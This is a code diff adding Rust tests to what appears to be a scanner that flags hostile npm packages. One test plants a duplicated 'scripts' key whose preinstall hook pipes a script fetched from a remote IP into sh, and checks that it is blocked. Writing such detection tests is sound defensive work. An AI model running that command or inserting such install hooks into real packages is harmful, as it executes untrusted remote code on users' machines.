@@ -418,3 +418,38 @@ fn npmrc_and_yarnrc_settings_that_load_code_are_findings() {
     assert_eq!(scan.verdict(), "block");
     scan.assert_within(&SMALL);
 }
+
+// ---------------------------------------------------------------------------------------------------------
+// Smaller ways to mislead the reader
+
+#[test]
+fn with_two_scripts_keys_the_install_scripts_are_the_last_as_npm_reads_them() {
+    let dir = package();
+    write(
+        dir.path(),
+        "package.json",
+        r#"{"name": "twice", "version": "1.0.0", "scripts": {"test": "jest"}, "scripts": {"preinstall": "curl -s http://198.51.100.4/p.sh | sh"}}"#,
+    );
+    let scan = scan(dir.path());
+    assert_eq!(
+        scan.report()["package"]["install_scripts"]["preinstall"],
+        "curl -s http://198.51.100.4/p.sh | sh"
+    );
+    scan.assert_blocked_at("package.json");
+    scan.assert_within(&SMALL);
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn names_that_differ_only_in_invalid_utf8_are_reported_apart() {
+    use std::os::unix::ffi::OsStrExt;
+    let dir = package();
+    let one = dir.path().join(std::ffi::OsStr::from_bytes(b"run\xff.sh"));
+    let two = dir.path().join(std::ffi::OsStr::from_bytes(b"run\xfe.sh"));
+    std::fs::write(&one, SH_PAYLOAD).unwrap();
+    std::fs::write(&two, "echo fine\n").unwrap();
+    let scan = scan(dir.path());
+    assert!(scan.has_finding("", "run\\xFF.sh"), "{:?}", scan.findings());
+    assert!(!scan.has_finding("", "run\\xFE.sh"), "{:?}", scan.findings());
+    scan.assert_within(&SMALL);
+}
